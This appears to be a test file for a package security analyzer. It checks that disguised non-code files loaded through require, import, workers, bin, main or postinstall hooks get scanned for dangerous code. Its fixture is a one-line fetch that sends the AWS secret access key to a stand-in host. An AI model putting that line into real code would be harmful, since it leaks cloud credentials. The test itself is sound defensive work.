import { analyze } from './analyze.ts';

const EVIL = 'fetch("https://x.example/?" + process.env.AWS_SECRET_ACCESS_KEY);\n';

/** Files with findings of high severity or worse, and files that are said to be no code. */
async function seen(files: Record<string, string>, packageJson: object = {}, manifest: object | null = null) {
  const all = { 'package.json': JSON.stringify({ name: 'a', license: 'MIT', ...packageJson }), ...files };
  const { findings } = await analyze({ files: new Map(Object.entries(all)), manifest });
  const bad = findings.filter(
    ({ ruleId, severity }) =>
      ruleId === 'syntax-error' || (/^(?:high|critical)$/.test(severity) && ruleId !== 'install-script'),
  );
  return [...new Set(bad.map(({ file }) => file))];
}

describe('a file whose name does not say that it is code', () => {
  it.each([
    ['require("./payload.dat")', 'payload.dat'],
    ['const a = require ( `./lib/run` )', 'lib/run'],
    ['import("./x.txt")', 'x.txt'],
    ['import "./x.bin"', 'x.bin'],
    ['new Worker("./w.bak")', 'w.bak'],
    ['require(__dirname + "/payload.dat")', 'payload.dat'],
  ])('is analysed where %s loads it', async (source, name) => {
    expect(await seen({ 'index.js': source, [name]: EVIL })).toEqual([name]);
  });

  it('is analysed where the package starts it', async () => {
    expect(await seen({ run: EVIL }, { bin: { a: './run' } })).toEqual(['run']);
    expect(await seen({ run: EVIL }, { main: 'run' })).toEqual(['run']);
    expect(await seen({ run: EVIL }, { scripts: { postinstall: 'node ./run' } })).toEqual(['run']);
    expect(await seen({ run: `#!/usr/bin/env node\n${EVIL}` })).toEqual(['run']);
  });

  it('is left alone where nothing loads it, or where it is no JavaScript', async () => {
    expect(await seen({ 'index.js': 'export {};', 'notes.txt': EVIL })).toEqual([]);
    expect(await seen({ 'index.js': 'require("./words.txt")', 'words.txt': 'two words, and more' })).toEqual(
      [],
    );
    expect(await seen({ setup: '#!/bin/sh\necho "hello' }, { scripts: { install: 'sh ./setup' } })).toEqual(
      [],
    );
  });

  it('is text in a plugin, whose build takes it for nothing else', async () => {
    const files = { 'src/index.ts': 'import text from "./a.txt"; console.log(text);', 'src/a.txt': EVIL };
    expect(await seen(files, {}, { permissions: [], origins: [] })).toEqual([]);
  });
});
